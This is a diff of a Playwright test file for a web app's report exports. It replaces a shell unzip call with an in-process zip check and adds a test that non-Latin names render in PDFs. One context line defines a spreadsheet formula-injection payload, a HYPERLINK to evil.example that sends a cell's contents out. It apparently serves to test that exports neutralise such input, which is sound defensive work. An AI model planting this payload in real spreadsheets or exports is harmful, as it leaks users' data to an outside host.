@@ -1,15 +1,13 @@
-import { execFile } from "node:child_process";
 import { readFile } from "node:fs/promises";
-import { promisify } from "node:util";
 import { expect, test, type Download, type Page } from "@playwright/test";
 import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { prisma } from "../lib/db/prisma";
 import { pdfToText } from "../scripts/lib/pdf-check";
+import { zipEntries } from "../scripts/lib/zip-check";
 import { signIn } from "./support/auth";
 import { consultantOf, seedClient, seedFirm } from "./support/firm";
 
-const run = promisify(execFile);
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
 async function download(page: Page, button: string): Promise<{ file: Buffer; name: string; download: Download }> {
@@ -106,8 +104,20 @@ test("a client status report (PDF) from the Reports page, and a ZIP for the view
   await expect(page.getByText("2 clients in this view.")).toBeVisible();
   const zip = await download(page, "Client reports (ZIP of PDFs)");
   const file = `${await zip.download.path()}`;
-  const { stdout } = await run("unzip", ["-Z1", file]);
-  expect(stdout.trim().split("\n").sort()).toEqual([expect.stringMatching(/^client-report-pdfclient-amara-/), expect.stringMatching(/^client-report-pdfclient-ben-/)]);
+  const entries = await zipEntries(await readFile(file));
+  expect([...entries.keys()].sort()).toEqual([expect.stringMatching(/^client-report-pdfclient-amara-/), expect.stringMatching(/^client-report-pdfclient-ben-/)]);
+});
+
+test("the production server's PDFs draw names in other scripts with the embedded fonts", async ({ page }) => {
+  const firm = await seedFirm("reports-unicode");
+  const casey = consultantOf(firm, 0);
+  const id = await seedClient(firm, casey, { firstName: "Thị Hương", lastName: "Nguyễn 王小明", consultantId: casey.id });
+  await signIn(page, casey, "/reports");
+  const response = await page.request.get(`/api/exports/clients/${id}/report.pdf`);
+  expect(response.ok()).toBe(true);
+  const text = await pdfToText(await response.body());
+  expect(text).toContain("Thị Hương Nguyễn 王小明");
+  expect(text).not.toContain("?");
 });
 
 test("the draw impact report of a draw, as CSV, from the Reports page", async ({ page }) => {
